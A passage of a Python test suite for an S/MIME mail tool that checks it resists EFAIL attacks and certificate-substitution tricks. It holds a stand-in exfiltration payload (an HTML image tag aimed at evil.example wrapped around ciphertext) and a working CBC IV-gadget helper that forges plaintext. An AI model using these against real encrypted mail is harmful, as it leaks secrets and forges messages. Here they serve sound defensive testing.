        assert "SECRET-TEXT" not in page and "launch code" not in page, (program, page)
    result = world.bob.run("smime-decrypt", "--passphrase-file", world.bob.passfile, input=raw)
    no_traceback(result)
    assert result.returncode == NOT_ENCRYPTED and b"SECRET-TEXT" not in result.stdout
    code, report, out = decrypt_report(world.bob, raw)
    assert b"SECRET-TEXT" not in out and "SECRET-TEXT" not in json.dumps(report)
    code, report = verify(world.bob, raw)
    assert [p["kind"] for p in report["parts"]] == ["encrypted"] and report["verdict"] == "unsigned"


def test_efail_wrapped_as_forwarded_message_releases_nothing(world):
    secret = world.alice.ok("smime-encrypt", "--cipher", "aes256-cbc",
                            input=message(body="SECRET-TEXT: the launch code is 0000.\n"))
    raw = multipart([text_part('<img src="http://evil.example/?', "text/html"), rfc822_part(secret),
                     text_part('">', "text/html")], frm=f"Mallory <{MALLORY}>")
    page = "\n".join(shown(world.bob, raw, program="smime-decrypt"))
    assert "SECRET-TEXT" not in page, page


def test_unsigned_cbc_content_is_flagged_unauthenticated(world):
    raw = world.alice.ok("smime-encrypt", "--cipher", "aes256-cbc", input=message(body="SECRET-TEXT\n"))
    code, report, out = decrypt_report(world.bob, raw)
    assert (report["verdict"], code) == ("unsigned", UNSIGNED)
    assert report["decryption"]["cipher"] == "aes256_cbc" and report["decryption"]["authenticated"] is False
    assert report["content_authenticated"] is False
    assert b"SECRET-TEXT" in out
    lines = shown(world.bob, raw, program="smime-decrypt")
    assert "NOT authenticated" in lines[0]


def _iv_gadget(raw, target, known=b"Content-Type: te"):
    """raw (an AES-CBC EnvelopedData message) with its IV changed so that the first plaintext block
    becomes target (16 bytes), knowing only what that block said (known: every entity smime-encrypt
    writes starts with its Content-Type field): EFAIL's CBC gadget."""
    from asn1crypto import algos

    head, _, body = raw.replace(b"\r\n", b"\n").partition(b"\n\n")
    info = cms.ContentInfo.load(base64.b64decode(body))
    eci = info["content"]["encrypted_content_info"]
    algorithm = eci["content_encryption_algorithm"]
    iv = algorithm["parameters"].native
    forged_iv = bytes(a ^ b ^ c for a, b, c in zip(iv, known, target))
    eci["content_encryption_algorithm"] = algos.EncryptionAlgorithm(
        {"algorithm": algorithm["algorithm"].native, "parameters": forged_iv})
    der_bytes = info.dump(force=True)
    return head + b"\n\n" + base64.encodebytes(der_bytes)


#: 16 bytes: a header field of the attacker's, then a folded line that swallows the real Content-Type
GADGET = b"X-Gadget: 1\r\n te"
#: the same for a signed entity ("Content-Type: multipart/signed"): the signature is hidden
SIGNED_GADGET = b"X-Gadget: 1\r\n mu"


def test_cbc_gadget_on_unsigned_message_is_never_unflagged(world):
    raw = world.alice.ok("smime-encrypt", "--cipher", "aes256-cbc",
                         input=message(body="Pay 100 EUR to account 12345.\n"))
    forged = _iv_gadget(raw, GADGET)
    result = world.bob.run("smime-decrypt", "--passphrase-file", world.bob.passfile, input=forged)
    no_traceback(result)
    if result.returncode == DECRYPTION_FAILED:  # refusing is as good as flagging
        assert result.stdout == b""
        return
    assert result.returncode == 0
    assert b"X-Gadget: 1" in result.stdout  # the attacker's bytes did arrive: the flag is all that warns
    code, report, out = decrypt_report(world.bob, forged)
    assert report["verdict"] == "unsigned" and code == UNSIGNED
    assert report["content_authenticated"] is False and report["decryption"]["authenticated"] is False
    lines = shown(world.bob, forged, program="smime-decrypt")
    assert "NOT authenticated" in lines[0], lines[0]


def test_cbc_gadget_hiding_the_signature_is_never_unflagged(world):
    """The gadget on a message Alice signed, then encrypted with CBC: the first block is the header of
    the multipart/signed, which no signature covers.  Folding its Content-Type away hides the signature:
    the result must not be trusted, and must be flagged as unauthenticated."""
    raw = world.alice.ok("smime-encrypt", "--sign", "--cipher", "aes256-cbc", "--passphrase-file",
                         world.alice.passfile, input=message(body="Pay 100 EUR to account 12345.\n"))
    code, report, _ = decrypt_report(world.bob, raw)
    assert (report["verdict"], report["content_authenticated"]) == ("trusted", True)
    forged = _iv_gadget(raw, SIGNED_GADGET, known=b"Content-Type: mu")
    code, report, out = decrypt_report(world.bob, forged)
    if code == DECRYPTION_FAILED:
        assert out == b""
        return
    assert b"X-Gadget: 1" in out, out[:400]
    assert report["verdict"] != "trusted" and code != TRUSTED, report
    assert report["content_authenticated"] is False, report
    lines = shown(world.bob, forged, program="smime-decrypt")
    assert not lines[0].startswith("[mailseal] ✓") and "NOT authenticated" in lines[0], lines[0]


# --- 6. key-update abuse --------------------------------------------------------------------------

HOUR = pki.DAY / 24


@pytest.fixture
def knows_alice(bob, people):
    """Bob's fresh home that learned Alice's real certificate from a message she signed."""
    summary = import_json(bob, signed_message(people["alice"], when=pki.NOW - 2 * HOUR))
    assert summary["imported"] == 1
    assert trust_json(bob, "status", "alice@example.org")[0]["fingerprint_sha256"] == fingerprint(people["alice"])
    return bob


def test_alice_signing_with_a_certificate_from_an_unknown_ca_is_changed(knows_alice, people, world):
    impostor = world.unknown_ca.issue("alice@example.org")
    raw = signed_message(impostor, when=pki.NOW - HOUR)
    code, report = verify(knows_alice, raw)
    assert (report["verdict"], code) == ("changed", CHANGED), report
    assert fingerprint(people["alice"])[:16] in report["reasons"][0]
    before = trust_json(knows_alice, "status", "alice@example.org")
    summary = import_json(knows_alice, raw)
    assert summary["events"].get("changed") == 1, summary
    after = trust_json(knows_alice, "status", "alice@example.org")
    assert after == before and after[0]["fingerprint_sha256"] == fingerprint(people["alice"])
    listing = {c["fingerprint_sha256"]: c for c in trust_json(knows_alice, "list", "alice@example.org")["certificates"]}
    assert listing[fingerprint(impostor)]["status"] == "untrusted"
    assert listing[fingerprint(impostor)]["usable_for_encryption"] is False
    assert listing[fingerprint(people["alice"])]["usable_for_encryption"] is True
    # a message signed later with the impostor does not tip the balance either
    import_json(knows_alice, signed_message(impostor, when=pki.NOW - 0.5 * HOUR))
    assert trust_json(knows_alice, "status", "alice@example.org") == before


def test_encryption_key_preference_naming_an_unknown_ca_certificate_is_not_followed(knows_alice, people, world):
    """Alice's real signature, carrying an extra certificate for her address from an unknown CA that
    SMIMEEncryptionKeyPreference names: encryption does not move to a certificate nobody trusts."""
    other = world.unknown_ca.issue("alice@example.org")
    raw = signed_message(people["alice"], when=pki.NOW - HOUR, encryption_cert=other.cert)
    code, report = verify(knows_alice, raw)
    assert (report["verdict"], code) == ("trusted", TRUSTED)
    import_json(knows_alice, raw)
    status = trust_json(knows_alice, "status", "alice@example.org")
    assert status[0]["fingerprint_sha256"] == fingerprint(people["alice"]), status


def test_someone_elses_signed_message_carrying_a_certificate_for_alice_changes_nothing(knows_alice, people, world, ca):
    """Mallory (a certificate of the trusted CA, his own address) signs a message carrying certificates
    for alice@example.org, one of them named as his encryption key preference."""
    forged_unknown = world.unknown_ca.issue("alice@example.org")
    forged_trusted_ca = ca.issue("alice@example.org")  # another key, as a mis-issuing CA would give it
    listing_before = trust_json(knows_alice, "list", "alice@example.org")
    for extra in (forged_unknown, forged_trusted_ca):
        raw = signed_message(world.mallory, when=pki.NOW - HOUR, encryption_cert=extra.cert)
        code, report = verify(knows_alice, raw)
        assert (report["verdict"], code) == ("trusted", TRUSTED)
        import_json(knows_alice, raw)
        assert trust_json(knows_alice, "list", "alice@example.org") == listing_before
        status = trust_json(knows_alice, "status", "alice@example.org")
        assert status[0]["fingerprint_sha256"] == fingerprint(people["alice"])


def test_future_signing_time_does_not_pin_a_certificate_for_encryption(knows_alice, people, ca):
    """A message with a signing time ten years ahead must not make its certificate the newest evidence
    for good: Alice's renewal, signed today by the same trusted CA, still takes over encryption."""
    old = people["alice"]
    import_json(knows_alice, signed_message(old, when=pki.NOW + 3650 * pki.DAY))
    renewed = ca.issue("alice@example.org", not_before=pki.NOW - HOUR)
    raw = signed_message(renewed, when=pki.NOW - 0.5 * HOUR)
    assert verify(knows_alice, raw)[1]["verdict"] == "trusted"
    import_json(knows_alice, raw)
    status = trust_json(knows_alice, "status", "alice@example.org")
    assert status[0]["fingerprint_sha256"] == fingerprint(renewed), status


def certs_only(*people_):
    """A PKCS#7 certs-only bundle (SignedData without signers) of the people's certificates."""
    return cms.ContentInfo({"content_type": "signed_data", "content": cms.SignedData({
        "version": "v1", "digest_algorithms": [], "encap_content_info": {"content_type": "data"},
        "certificates": [ax509.Certificate.load(der(p.cert)) for p in people_], "signer_infos": []})}).dump()


def _certs_only_message(certs_der):
    head = (b"From: Alice <alice@example.org>\nTo: bob@example.org\nSubject: my new certificate\n"
            b"MIME-Version: 1.0\n")
    return head + smime_entity(certs_der, "certs-only", "smime.p7c")


def _certs_only_attached(certs_der):
    return multipart([text_part("Hi Bob, here is my new certificate, please use it from now on.\nAlice\n"),
                      smime_entity(certs_der, "certs-only", "smime.p7c")])


def _cer_attached(pem):
    b64 = base64.encodebytes(pem).decode()
    cer = (f"Content-Type: application/pkix-cert; name=alice.cer\nContent-Transfer-Encoding: base64\n"
           f"Content-Disposition: attachment; filename=alice.cer\n\n{b64}").encode()
    return multipart([text_part("Hi Bob, my new certificate is attached.\nAlice\n"), cer])


def _p7c_without_smime_type(certs_der):
    b64 = base64.encodebytes(certs_der).decode()
    part = (f"Content-Type: application/pkcs7-mime; name=smime.p7c\nContent-Transfer-Encoding: base64\n"
            f"Content-Disposition: attachment; filename=smime.p7c\n\n{b64}").encode()
    return multipart([text_part("Hi Bob, my new certificate.\nAlice\n"), part])


CERT_CARRIERS = {
    "certs-only-message": lambda d, pem: _certs_only_message(d),
    "certs-only-attachment": lambda d, pem: _certs_only_attached(d),
    "p7c-attachment-without-smime-type": lambda d, pem: _p7c_without_smime_type(d),
    "cer-attachment": lambda d, pem: _cer_attached(pem),
}


@pytest.mark.parametrize("carrier", list(CERT_CARRIERS))
def test_unsigned_message_with_a_certificate_imports_nothing(knows_alice, people, world, ca, carrier):
    forged_unknown = world.unknown_ca.issue("alice@example.org")
    forged_trusted_ca = ca.issue("alice@example.org")
    bundle = certs_only(forged_unknown, forged_trusted_ca)
    pem = forged_unknown.cert_pem() + forged_trusted_ca.cert_pem()
    raw = CERT_CARRIERS[carrier](bundle, pem)
    listing_before = trust_json(knows_alice, "list")
    status_before = trust_json(knows_alice, "status", "alice@example.org")
    result = knows_alice.run("smime-import", "--json", input=raw)
    no_traceback(result)
    summary = json.loads(result.stdout)
    assert summary["imported"] == summary["updated"] == 0, summary
    assert trust_json(knows_alice, "list") == listing_before
    assert trust_json(knows_alice, "status", "alice@example.org") == status_before
    code, report = verify(knows_alice, raw)
    assert report["verdict"] != "trusted" and report["signer"] is None, report
